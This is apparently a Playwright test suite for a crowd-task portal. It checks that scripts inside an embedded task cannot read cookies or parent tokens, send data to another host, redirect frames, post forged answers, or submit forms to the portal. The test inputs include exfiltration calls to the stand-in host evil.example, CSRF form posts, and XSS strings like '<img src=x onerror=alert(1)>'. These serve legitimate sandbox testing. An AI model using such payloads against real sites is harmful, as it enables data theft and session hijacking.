"""Scripts inside a task: what they cannot reach, load, send or forge.

Each template tries something and writes what came of it into `#outcome`.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import Route
from support.fake_task_queue import MemoryJob, worker
from support.task_page import Screen, Site

from tracemark.storage.s3uri import S3Uri

SCRIPT = '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>'
FORM = '<crowd-form><crowd-input name="n" label="N"></crowd-input><p id="outcome">nothing yet</p></crowd-form>'


@pytest.fixture
def asked_of_evil(eve: Screen) -> list[str]:
    """What the browser asked of another host; it never gets an answer."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    eve.page.context.route("https://evil.example/**", answer)
    return asked


def offer(site: Site, script: str) -> None:
    job = MemoryJob("hostile", S3Uri.parse("s3://hostile/template.html"), [{}, {}])
    outcome = "const tell = (text) => { document.getElementById('outcome').textContent = String(text); };"
    site.offer(job, f"{SCRIPT}{FORM}<script>{outcome}{script}</script>")


def show(site: Site, screen: Screen, script: str) -> None:
    offer(site, script)
    screen.start()


def outcome(screen: Screen) -> str:
    told = screen.find("#outcome").filter(has_not_text="nothing yet")
    told.wait_for()
    return told.inner_text()


@pytest.mark.parametrize(
    "reach",
    [
        "document.cookie",
        "parent.document.title",
        "parent.document.querySelector('iframe').dataset.token",
        "top.location.href",
        "localStorage.length",
        "frameElement.dataset.nonce",
    ],
)
def test_a_task_cannot_reach_the_page_around_it(site: Site, eve: Screen, reach: str) -> None:
    show(site, eve, f"try {{ tell('reached ' + {reach}) }} catch (error) {{ tell(error.name) }}")

    assert outcome(eve) in ("SecurityError", "TypeError")


@pytest.mark.parametrize("path", ["/", "/sign-in", "/tasks/task-0000"])
def test_a_task_cannot_read_the_portal(site: Site, eve: Screen, path: str) -> None:
    show(site, eve, f"fetch('{path}', {{credentials: 'include'}}).then(() => tell('read'), () => tell('refused'))")

    assert outcome(eve) == "refused"


@pytest.mark.parametrize(
    "send",
    [
        "fetch('https://evil.example/?' + document.title)",
        "import('https://evil.example/x.js')",
        "loaded(new Image(), 'https://evil.example/x.png')",
        "loaded(document.body.appendChild(document.createElement('script')), 'https://evil.example/x.js')",
        "loaded(document.body.appendChild(document.createElement('video')), 'https://evil.example/x.mp4')",
    ],
    ids=["fetch", "module", "picture", "script", "video"],
)
def test_a_task_cannot_talk_to_another_host(site: Site, eve: Screen, asked_of_evil: list[str], send: str) -> None:
    loaded = """const loaded = (element, address) => new Promise((done, refuse) => {
      element.onload = done;
      element.onerror = refuse;
      element.src = address;
    });"""
    show(site, eve, f"{loaded} ({send}).then(() => tell('sent'), () => tell('refused'))")

    assert outcome(eve) == "refused"
    assert asked_of_evil == []


def test_a_task_cannot_talk_to_another_host_by_webrtc(site: Site, eve: Screen) -> None:
    script = """const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]});
    peer.createDataChannel('x');
    peer.onconnectionstatechange = () => tell(peer.connectionState);
    const begun = peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    begun.then(() => tell('begun'), () => tell('refused'));
    """
    show(site, eve, f"try {{ {script} }} catch (error) {{ tell('refused') }}")

    assert outcome(eve) in ("refused", "failed", "closed")


def test_a_task_cannot_lead_its_frame_to_another_host(site: Site, eve: Screen, asked_of_evil: list[str]) -> None:
    offer(site, "location.href = 'https://evil.example/?secret'")
    eve.page.goto("/")

    with eve.page.expect_console_message(lambda message: "frame-src" in message.text):
        eve.page.get_by_role("button", name="Start working").click()

    assert asked_of_evil == []


def test_a_task_cannot_lead_the_whole_page_away(site: Site, eve: Screen) -> None:
    show(site, eve, "try { top.location = '/sign-in'; tell('led away') } catch (error) { tell(error.name) }")

    assert outcome(eve) == "SecurityError"
    assert "/tasks/" in eve.page.url


@pytest.mark.parametrize("action", ["/sign-out", "/tasks/task-0000/decline"])
def test_a_task_cannot_send_forms_to_the_portal(site: Site, eve: Screen, action: str) -> None:
    form = f"<form method='post' action='{action}'></form>"
    attack = (
        f'() => {{ document.body.insertAdjacentHTML("beforeend", "{form}"); [...document.forms].at(-1).submit(); }}'
    )
    show(site, eve, f"document.addEventListener('all-crowd-elements-ready', {attack});")

    eve.page.wait_for_timeout(300)

    assert site.task_queue.held(worker("anna").worker_id, eve.page.url.rpartition("/")[2]).task_input == {}
    eve.page.goto("/")
    assert eve.page.get_by_role("heading", name="Jobs").is_visible()


NONCE = "document.querySelector('meta[name=tracemark-task]').content"
FORGED = {
    "no nonce": "{kind: 'tracemark-answers', answers: {n: 'forged'}}",
    "wrong nonce": "{kind: 'tracemark-answers', nonce: '0'.repeat(64), answers: {n: 'forged'}}",
    "another kind": f"{{kind: 'answers', nonce: {NONCE}, answers: {{n: 'forged'}}}}",
    "text": "'tracemark-answers'",
    "nothing": "null",
}


@pytest.mark.parametrize("message", FORGED.values(), ids=FORGED)
def test_a_forged_message_is_no_answer(site: Site, eve: Screen, message: str) -> None:
    show(site, eve, f"window.forge = () => parent.postMessage({message}, '*');")

    eve.find("crowd-input input").fill("a touch of the worker")
    eve.frame.evaluate("forge()")
    eve.page.wait_for_timeout(200)

    assert site.task_queue.answers == {}


def test_a_script_cannot_answer_without_a_key_or_a_click(site: Site, eve: Screen) -> None:
    submit = "() => { document.querySelector('crowd-form').submit(); console.log('submitted'); }"
    offer(site, f"document.addEventListener('all-crowd-elements-ready', {submit});")
    task = site.task_queue.take(worker("anna").worker_id, "hostile")

    # Whatever Playwright evaluates in a page counts as a touch of the worker, so nothing is until the script has tried.
    with eve.page.expect_console_message(lambda message: message.text == "submitted"):
        eve.page.goto(f"/tasks/{task.task_id if task else ''}")
    eve.page.wait_for_timeout(500)

    assert site.task_queue.answers == {}
    assert eve.message == "Please look at the task, then submit it."


def test_a_frame_inside_the_task_cannot_answer_in_its_place(site: Site, eve: Screen) -> None:
    forge = "top.postMessage({kind: 'tracemark-answers', nonce: '${nonce}', answers: {n: 'forged'}}, '*')"
    inner = f"""const inner = document.createElement("iframe");
      const nonce = {NONCE};
      inner.srcdoc = `<script>{forge}<\\/script>`;
      document.body.append(inner);
      setTimeout(() => tell("done"), 300);"""
    show(site, eve, inner)

    eve.press("Tab")

    assert outcome(eve) == "done"
    assert site.task_queue.answers == {}


@pytest.mark.parametrize(
    ("answers", "said"),
    [("null", "could not be read"), ("[1]", "could not be read"), ("{n: 'x'.repeat(300000)}", "too large")],
    ids=["nothing", "a list", "too much"],
)
def test_answers_of_a_wrong_kind_are_refused_and_the_worker_told(
    site: Site, eve: Screen, answers: str, said: str
) -> None:
    show(site, eve, "")
    eve.frame.evaluate(f"Object.defineProperty(document.querySelector('crowd-form'), 'answers', {{value: {answers}}})")

    eve.find("crowd-input input").fill("x")
    eve.press("Enter")

    eve.page.locator("#notice").get_by_text(said).wait_for()
    assert site.task_queue.answers == {}


def test_answers_keep_hostile_keys_and_texts_as_they_are(site: Site, eve: Screen) -> None:
    show(site, eve, "document.querySelector('crowd-input').name = '<img src=x onerror=alert(1)>'; tell('named')")

    eve.find("crowd-input input").fill("</script><script>alert(2)</script>")
    eve.submit_by_key()

    (saved,) = site.task_queue.answers.values()
    assert saved == {"<img src=x onerror=alert(1)>": "</script><script>alert(2)</script>"}
